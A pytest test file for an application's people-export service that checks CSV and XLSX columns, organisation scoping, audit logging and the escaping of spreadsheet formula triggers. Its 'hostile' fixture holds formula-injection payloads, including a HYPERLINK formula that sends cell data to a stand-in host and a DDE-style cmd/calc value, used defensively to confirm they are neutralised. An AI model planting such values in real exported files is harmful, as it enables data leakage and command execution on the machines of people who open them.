"""Exporting people: canonical columns, both formats, only the organisation's own people."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from bellwether.people import services
from bellwether.people.importing import PEOPLE_FIELDS
from bellwether.testing.factories import PersonFactory


@pytest.fixture
def people(org, other_org, unit, leader_person):
    PersonFactory(
        organisation=org,
        employee_id="C9",
        name="Cara",
        email="cara@acme.test",
        manager=leader_person,
        org_unit=unit,
        start_date=date(2022, 3, 4),
        location="Leeds",
        active=False,
    )
    PersonFactory(organisation=other_org, employee_id="G1", name="Globex person")


def test_csv_export_lists_the_organisations_people_in_import_columns(org, people):
    content, content_type, filename = services.export_people(organisation=org, fmt="csv")
    assert content_type == "text/csv; charset=utf-8"
    assert filename.startswith("people-acme-")
    assert content.startswith(b"\xef\xbb\xbf")
    assert content.decode("utf-8-sig").splitlines() == [
        ",".join(PEOPLE_FIELDS),
        "C9,Cara,cara@acme.test,Manager,HQ,L001,,Leeds,2022-03-04,false",
        "L001,Lena Leader,l001@example.com,Head of Operations,HQ,,senior,,,true",
    ]


def test_xlsx_export_has_the_same_rows_with_real_dates(org, people):
    content, content_type, filename = services.export_people(organisation=org, fmt="xlsx")
    assert content_type == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert filename.endswith(".xlsx")
    sheet = load_workbook(io.BytesIO(content), read_only=True).worksheets[0]
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert rows[0] == list(PEOPLE_FIELDS)
    assert rows[1][:6] == ["C9", "Cara", "cara@acme.test", "Manager", "HQ", "L001"]
    assert rows[1][8].date() == date(2022, 3, 4)
    assert len(rows) == 3


def test_an_unknown_format_is_refused(org):
    with pytest.raises(services.DomainError, match=r"Export as csv or xlsx\."):
        services.export_people(organisation=org, fmt="pdf")


def test_an_export_by_an_actor_is_audited(org, members):
    from bellwether.core.models import AuditEvent

    services.export_people(organisation=org, fmt="csv", actor=members["admin"].user)
    event = AuditEvent.objects.get(action="people.exported")
    assert event.details == {"format": "csv", "filters": {}, "rows": 2}
    assert event.actor == members["admin"].user
    assert (event.organisation, event.target_id) == (org, str(org.pk))


@pytest.fixture
def hostile(org, unit):
    return PersonFactory(
        organisation=org,
        employee_id="-7",
        name='=HYPERLINK("http://evil.example/?"&A2,"open")',
        email="-x@evil.test",
        title="+cmd|' /C calc'!A0",
        location="@SUM(1+1)",
        org_unit=unit,
        start_date=date(2022, 3, 4),
    )


def test_csv_export_escapes_formula_triggers(org, hostile):
    content, _type, _name = services.export_people(organisation=org, fmt="csv")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[1] == [
        "'-7",
        '\'=HYPERLINK("http://evil.example/?"&A2,"open")',
        "'-x@evil.test",
        "'+cmd|' /C calc'!A0",
        "HQ",
        "",
        "",
        "'@SUM(1+1)",
        "2022-03-04",
        "true",
    ]


def test_xlsx_export_escapes_formula_triggers_and_keeps_dates(org, hostile):
    content, _type, _name = services.export_people(organisation=org, fmt="xlsx")
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    cells = next(sheet.iter_rows(min_row=2, max_row=2))
    assert all(c.data_type != "f" for c in cells)
    assert [c.value for c in cells[:4]] == [
        "'-7",
        '\'=HYPERLINK("http://evil.example/?"&A2,"open")',
        "'-x@evil.test",
        "'+cmd|' /C calc'!A0",
    ]
    assert cells[8].value.date() == date(2022, 3, 4)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_escaped_export_re_imports_unchanged(org, hostile, fmt):
    content, _type, filename = services.export_people(organisation=org, fmt=fmt)
    result = services.import_people(
        organisation=org, actor=None, content=content, filename=filename
    )
    assert result.ok, result.errors
    assert (result.total, result.unchanged, result.updated) == (1, 1, 0)
    hostile.refresh_from_db()
    assert hostile.name.startswith("=HYPERLINK")
    assert hostile.email == "-x@evil.test"


def test_the_command_line_export_is_audited_too(org, hostile):
    from bellwether.core.models import AuditEvent

    services.export_people(organisation=org, fmt="xlsx")
    event = AuditEvent.objects.get(action="people.exported")
    assert (event.actor, event.actor_label) == (None, "command line")
    assert event.details == {"format": "xlsx", "filters": {}, "rows": 1}
